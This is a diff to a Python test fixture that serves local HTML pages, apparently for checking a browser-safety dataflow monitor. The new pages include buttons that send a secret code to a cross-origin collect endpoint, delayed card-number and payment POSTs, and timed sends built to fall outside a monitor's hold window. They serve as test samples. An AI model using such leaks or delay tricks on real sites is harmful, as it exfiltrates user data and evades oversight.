@@ -19,6 +19,8 @@ from urllib.parse import parse_qs, urlsplit
 
 SECRET = "ZX44719920QQ"
 """What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
+LATER_MS = 4500
+"""How long the "later" buttons wait before their page sends: past any window an action's hold kept open."""
 
 _SCRIPT = """
 <script>
@@ -78,6 +80,8 @@ PAGES: dict[str, str] = {
     "sw": _SCRIPT + """<title>Offline</title><h1>Offline</h1>
 <button id="sw-go" onclick="navigator.serviceWorker.ready.then((r) => r.active.postMessage(location.origin + '/api/transfer'));
   out('asked')">Sync</button>
+<button id="sw-later" onclick="setTimeout(() => navigator.serviceWorker.ready.then((r) =>
+  r.active.postMessage(location.origin + '/api/transfer')), LATER_MS); out('soon')">Sync later</button>
 <script>navigator.serviceWorker.register('/sw.js');</script>
 <p>Status: <span id="status">idle</span></p>""",
     "popup": """<title>Basket</title><h1>Basket</h1>
@@ -94,6 +98,23 @@ PAGES: dict[str, str] = {
 <button id="ws-card" onclick="ws.send(JSON.stringify({note: '4111 1111 1111 1111'}))">Next</button>
 <button id="ws-pass" onclick="ws.send(JSON.stringify({password: 'hunter2'}))">Keep</button>
 <button id="ws-plain" onclick="ws.send(JSON.stringify({note: 'hello there'}))">Say</button>""",
+    "later": _SCRIPT + """<title>Drafts</title><h1>Drafts</h1>
+<button id="late-pay" onclick="setTimeout(() => send('/api/pay', {method: 'POST', body: 'amount=15'}), LATER_MS); out('soon')">Next</button>
+<button id="late-card" onclick="setTimeout(() => send('/api/notes', {method: 'POST', body: 'n=4111 1111 1111 1111'}), LATER_MS);
+  out('soon')">Keep</button>
+<button id="late-open" onclick="window.open('about:blank', 'later-tab'); setTimeout(() => {
+  const f = document.getElementById('named'); f.n.value = '5555 5555 5555 4444'; f.submit(); }, LATER_MS); out('soon')">Continue</button>
+<form id="named" method="post" action="/api/next" target="later-tab"><input type="hidden" name="n"></form>
+<button id="late-ordinary" onclick="setTimeout(() => { send('/api/drafts/autosave', {method: 'POST', body: 'text=hello+there'});
+  navigator.sendBeacon('/stats', 'e=view'); fetch('/api/items?page=2'); }, LATER_MS); out('soon')">Write</button>
+<p>Status: <span id="status">idle</span></p>""",
+    "many": """<title>Many</title><h1>Many</h1>
+<script>
+window.loaded = Promise.all(Array.from({length: 40}, (_, i) => fetch('/api/items/' + i + '?page=' + i).then((r) => r.ok)))
+  .then((oks) => oks.filter(Boolean).length);
+for (let i = 0; i < 40; i++) { const img = new Image(); img.src = '/img/' + i + '.gif?v=' + i; document.body.append(img); }
+for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src = '/p/frame-inner?' + i; document.body.append(f); }
+</script>""",
     "eager-frame": """<title>Eager</title><p>frame</p>
 <script>fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=7'});</script>""",
     "frame-inner": """<title>Inner</title><p>frame</p>
@@ -103,7 +124,10 @@ PAGES: dict[str, str] = {
 <a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
 <button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
 <button id="count-cross" onclick="fetch('CROSS/collect?e=view', {{mode: 'no-cors'}})">Count</button>
-<a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>""",
+<a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>
+<button id="find-later" onclick="setTimeout(() => document.forms[0].submit(), LATER_MS)">Look up</button>
+<button id="go-later" onclick="setTimeout(() => {{ location.href = 'CROSS/land?ref={SECRET}'; }}, LATER_MS)">Continue</button>
+<button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>""",
 }
 WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
 SW_JS = ("self.addEventListener('activate', (e) => e.waitUntil(clients.claim()));"
@@ -159,7 +183,8 @@ class NetworkSite:
             return
         if parts.path.startswith("/p/") and parts.path[3:] in PAGES:
             cross = self.url("", "localhost" if "127.0.0.1" in (handler.headers.get("Host") or "") else "127.0.0.1")
-            self._reply(handler, 200, "text/html; charset=utf-8", PAGES[parts.path[3:]].replace("CROSS", cross))
+            self._reply(handler, 200, "text/html; charset=utf-8", PAGES[parts.path[3:]].replace("CROSS", cross)
+                        .replace("LATER_MS", str(LATER_MS)))
             return
         with self._lock:
             self.received.append(Received(handler.command, handler.headers.get("Host") or "", parts.path,
